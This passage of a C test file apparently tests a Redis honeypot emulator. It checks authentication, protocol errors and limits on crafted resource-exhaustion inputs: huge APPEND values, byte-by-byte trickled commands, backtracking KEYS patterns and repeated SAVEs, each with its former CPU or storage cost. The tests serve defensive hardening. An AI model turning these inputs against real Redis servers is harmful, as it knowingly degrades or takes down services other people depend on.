    assert_string_equal(feeds(&t, "AUTH a\r\nAUTH b\r\n"),
                        "-WRONGPASS invalid username-password pair or user is disabled.\r\n"
                        "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    assert_string_equal(feeds(&t, "AUTH s3cret\r\nGET x\r\n"), "+OK\r\n$-1\r\n");
    assert_int_equal(ev_count("login.failed"), 2);
    assert_int_equal(ev_count("login.success"), 1);
    sess_close(&t);

    sess_open(&t, "5.0.14", "s3cret");
    assert_string_equal(feeds(&t, "AUTH no\r\n"), "-ERR invalid password\r\n");
    sess_close(&t);
}

static void test_protocol_error_closes(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.2.14", NULL);
    assert_string_equal(feeds(&t, "PING\r\n*1\r\n!4\r\nPING\r\n"), "+PONG\r\n-ERR Protocol error: expected '$', got '!'\r\n");
    assert_true(t.closed);
    sess_close(&t);
}

/* One RESP command VERB KEY VALUE whose value is len bytes of fill
 * (malloc'ed, its length in *n). */
static char *bulk_cmd(const char *verb, const char *key, size_t len, char fill, size_t *n)
{
    char *b = malloc(len + 128);
    assert_non_null(b);
    int h = snprintf(b, 128, "*3\r\n$%zu\r\n%s\r\n$%zu\r\n%s\r\n$%zu\r\n", strlen(verb), verb, strlen(key), key,
                     len);
    memset(b + h, fill, len);
    memcpy(b + h + len, "\r\n", 2);
    *n = (size_t)h + len + 2;
    return b;
}

/* APPEND and RENAME on a 2 MiB value cost what the new bytes cost: they
 * copied the whole value and mined it for URLs again, 4 ms per 12-byte
 * command, with megabytes of max_input left to repeat it. */
static void test_append_rename_big(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);
    size_t n;
    char *big = bulk_cmd("APPEND", "k", 120 * 1024, 'A', &n);
    for (int i = 0; i < 17; i++)
        feed(&t, big, n);
    assert_string_equal(hp_buf_cstr(&t.out), ":2088960\r\n");
    assert_string_equal(feeds(&t, "APPEND k x\r\nEXPIRE k 100\r\n"), ":2088961\r\n:1\r\n");
    double a = test_cpu_s();
    for (int i = 0; i < 2000; i++)
        feeds(&t, "APPEND k x\r\nRENAME k j\r\nRENAME j k\r\n");
    assert_true(test_cpu_s() - a < 1.0);                  /* 16 s before; some ms now */
    assert_string_equal(hp_buf_cstr(&t.out), ":2090961\r\n+OK\r\n+OK\r\n");
    assert_string_equal(feeds(&t, "STRLEN k\r\nEXISTS j\r\nTTL k\r\n"), ":2090961\r\n:0\r\n:100\r\n");
    const char *v = feeds(&t, "GET k\r\n");
    assert_int_equal(t.out.len, 10 + 2090961 + 2);
    assert_int_equal(strncmp(v, "$2090961\r\nAAAA", 14), 0);
    assert_int_equal(v[10 + 2088959], 'A');
    assert_int_equal(v[10 + 2088960], 'x');
    assert_string_equal(v + t.out.len - 3, "x\r\n");
    assert_string_equal(feeds(&t, "SET j 1\r\nRENAME j k\r\nGET k\r\nDBSIZE\r\n"), "+OK\r\n+OK\r\n$1\r\n1\r\n:1\r\n");
    free(big);
    sess_close(&t);
}

/* Offer buf[0..len) to the session as it arrives, one byte per read: what
 * a read leaves unconsumed is offered again with the next byte after it,
 * as the core does.  Returns the replies to the last read. */
static const char *trickle(struct sess *t, const char *buf, size_t len)
{
    size_t used = 0;
    for (size_t k = 1; k <= len && !t->closed; k++) {
        struct hp_rd r;
        hp_rd_init(&r, buf + used, k - used);
        feed_rd(t, &r);
        used += hp_rd_pos(&r);
    }
    assert_int_equal(used, len);
    return hp_buf_cstr(&t->out);
}

/* A command that arrives a byte per read was parsed again from its start
 * on every read: its 1024 count lines per byte, 0.8 s for a 72 KiB EXISTS
 * (the core keeps 128 KiB, max_input is 8 MiB).  The parser keeps its
 * place: what it has read it does not read again. */
static void test_trickled_command(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);
    size_t big = 64 * 1024, cap = 16 + 1023 * 8 + big + 16, n;
    char *cmd = malloc(cap);
    assert_non_null(cmd);
    n = (size_t)snprintf(cmd, cap, "*1024\r\n$6\r\nEXISTS\r\n");
    for (int i = 0; i < 1022; i++)
        n += (size_t)snprintf(cmd + n, cap - n, "$1\r\nk\r\n");
    n += (size_t)snprintf(cmd + n, cap - n, "$%zu\r\n", big);
    memset(cmd + n, 'A', big);
    n += big;
    memcpy(cmd + n, "\r\n", 2);
    n += 2;
    feeds(&t, "SET k 1\r\n");
    double a = test_cpu_s();
    assert_string_equal(trickle(&t, cmd, n), ":1022\r\n");
    assert_true(test_cpu_s() - a < 0.25);                 /* 0.8 s before */
    /* an inline command too (each byte searched the whole line for its end) */
    memcpy(cmd, "ECHO ", 5);
    memset(cmd + 5, 'B', 60000);
    memcpy(cmd + 60005, "\r\n", 2);
    const char *v = trickle(&t, cmd, 60007);
    assert_int_equal(strncmp(v, "$60000\r\nBBB", 11), 0);
    assert_int_equal(t.out.len, 8 + 60000 + 2);
    assert_false(t.closed);
    /* a count line already read is not read again (here: changed behind the
     * parser's back), and the argument bytes are taken where they are now */
    char m[] = "*2\r\n$4\r\nECHO\r\n$5\r\nhello\r\n";
    struct hp_rd r;
    hp_rd_init(&r, m, 20);
    assert_string_equal(feed_rd(&t, &r), "");
    assert_int_equal(hp_rd_pos(&r), 0);
    char copy[sizeof(m)];
    memcpy(copy, m, sizeof(m));
    copy[5] = '9';
    copy[21] = 'j';
    hp_rd_init(&r, copy, sizeof(m) - 1);
    assert_string_equal(feed_rd(&t, &r), "$5\r\nheljo\r\n");
    assert_int_equal(hp_rd_pos(&r), sizeof(m) - 1);
    free(cmd);
    sess_close(&t);
}

/* A KEYS pattern that backtracks over every name of a full keyspace cost
 * 96 ms per 262-byte command; the connection's match budget ends that. */
static void test_keys_backtracking(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);
    static char cmd[4096];
    for (int i = 0; i < 256; i++) {
        int n = snprintf(cmd, sizeof(cmd), "*3\r\n$3\r\nSET\r\n$1024\r\n%04d", i);
        memset(cmd + n, 'a', 1020);
        n += 1020;
        n += snprintf(cmd + n, sizeof(cmd) - (size_t)n, "\r\n$1\r\nv\r\n");
        feed(&t, cmd, (size_t)n);
    }
    assert_string_equal(feeds(&t, "DBSIZE\r\n"), ":256\r\n");
    assert_int_equal(strncmp(feeds(&t, "KEYS *\r\n"), "*256\r\n", 6), 0);
    assert_int_equal(strncmp(feeds(&t, "KEYS 0001*\r\n"), "*1\r\n$1024\r\n0001aaa", 18), 0);
    char pat[300] = "KEYS *";
    memset(pat + 6, 'a', 254);
    pat[6 + 253] = 'b';
    strcpy(pat + 6 + 254, "\r\n");
    double a = test_cpu_s();
    for (int i = 0; i < 60; i++)
        assert_string_equal(feeds(&t, pat), "*0\r\n");
    assert_true(test_cpu_s() - a < 0.5);                  /* 5.8 s before */
    sess_close(&t);
}

/* Every SAVE stored the whole keyspace again: 200 of "SET z i", "SAVE" over
 * 2 MiB of values wrote 400 MiB of payloads.  Past the connection's budget
 * a SAVE is reported but not stored. */
static void test_save_budget(void **st)
{
    (void)st;
    struct sess t;
    sess_open(&t, "6.0.16", NULL);
    char cmd[64];
    for (int i = 0; i < 17; i++) {
        size_t n;
        snprintf(cmd, sizeof(cmd), "%02d", i);
        char *big = bulk_cmd("SET", cmd, 120 * 1024, (char)('A' + i), &n);
        feed(&t, big, n);
        free(big);
    }
    for (int i = 0; i < 10; i++) {
        snprintf(cmd, sizeof(cmd), "SET z %d\r\nSAVE\r\n", i);
        evs_reset();
        assert_string_equal(feeds(&t, cmd), "+OK\r\n+OK\r\n");
        assert_int_equal(ev_count("redis.file_write"), 1);
        bool stored = ev_find("session.file_upload", 0) != NULL;
        assert_true(stored == (i < 4));              /* 4 x 2 MiB: the budget */
        assert_true((strstr(ev_find("redis.file_write", 0), "\"not_stored\":true") != NULL) == !stored);
    }
    sess_close(&t);
}

int main(void)
{
    hp_output_set_tap(tap, NULL);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_parse_multibulk),
        cmocka_unit_test(test_parse_errors),
        cmocka_unit_test(test_parse_inline),
        cmocka_unit_test(test_basic_replies),
        cmocka_unit_test(test_info_like_nmap),
        cmocka_unit_test(test_cron_attack),
        cmocka_unit_test(test_auth),
        cmocka_unit_test(test_protocol_error_closes),
        cmocka_unit_test(test_append_rename_big),
        cmocka_unit_test(test_keys_backtracking),
        cmocka_unit_test(test_trickled_command),
        cmocka_unit_test(test_save_budget),
        cmocka_unit_test(test_v7_differential),
        cmocka_unit_test(test_v7_differential2),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    evs_reset();
    return rc;
}
